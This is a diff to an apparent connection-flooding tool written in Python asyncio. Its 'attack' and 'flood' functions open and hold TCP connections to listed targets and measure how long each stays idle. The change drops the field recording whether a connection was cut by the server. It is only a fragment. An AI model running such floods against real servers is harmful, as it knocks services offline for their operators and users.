@@ -48,11 +48,8 @@ async def speak(
 
 
 async def once(mode: str, target: dict[str, Any], deadline: float) -> dict[str, Any]:
-    """Open one connection and return how long it lasted and stayed idle, in seconds.
-
-    ``cut`` is false when only the end of the attack closed it.
-    """
-    found = {"lasted": 0.0, "idle": 0.0, "cut": True}
+    """Open one connection; return how long it lasted, and was idle until cut or the end."""
+    found = {"lasted": 0.0, "idle": 0.0}
     try:
         reader, writer = await asyncio.open_connection(target["host"], target["port"])
     except OSError:
@@ -64,10 +61,8 @@ async def once(mode: str, target: dict[str, Any], deadline: float) -> dict[str, 
             idle_since = time.monotonic()
             while await reader.read(4096):
                 continue
-    except TimeoutError:
-        found["cut"] = False
-    except (OSError, asyncio.IncompleteReadError):
-        found["cut"] = True
+    except (OSError, TimeoutError, asyncio.IncompleteReadError):
+        pass
     finally:
         writer.close()
     end = time.monotonic()
@@ -97,7 +92,6 @@ async def attack(orders: dict[str, Any]) -> list[dict[str, Any]]:
             "tried": len(tries),
             "held": len(held),
             "longest_idle": max((one["idle"] for one in held), default=0.0),
-            "never_cut": sum(not one["cut"] for one in tries),
         }
 
     return list(await asyncio.gather(*(flood(target) for target in orders["targets"])))
